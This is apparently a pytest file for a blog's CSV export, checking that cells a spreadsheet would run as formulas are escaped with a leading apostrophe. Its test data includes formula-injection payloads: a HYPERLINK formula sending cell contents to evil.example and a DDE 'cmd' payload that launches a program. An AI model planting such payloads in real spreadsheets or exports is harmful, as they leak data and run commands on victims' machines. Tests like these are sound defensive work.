"""blog.core.spreadsheet: every CSV export escapes cells a spreadsheet would run as formulas."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from blog.core.spreadsheet import csv_text, spreadsheet_cell

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_cells_that_start_a_formula_are_text(value):
    cell = spreadsheet_cell(value)
    assert cell == "'" + value
    [[read]] = list(csv.reader(io.StringIO(csv_text([], [[value]]).split("\r\n", 1)[1])))
    assert read == "'" + value


def test_other_values_are_written_as_they_are():
    when = datetime(2026, 3, 1, 9, 30, tzinfo=timezone.utc)
    assert [spreadsheet_cell(v) for v in ["Ann = Bob", "a-b@example.org", None, 3, -3, when]] == \
        ["Ann = Bob", "a-b@example.org", "", 3, -3, "2026-03-01T09:30:00+00:00"]
    assert csv_text(["name", "count"], [["Ann, PhD", 2]]) == 'name,count\r\n"Ann, PhD",2\r\n'
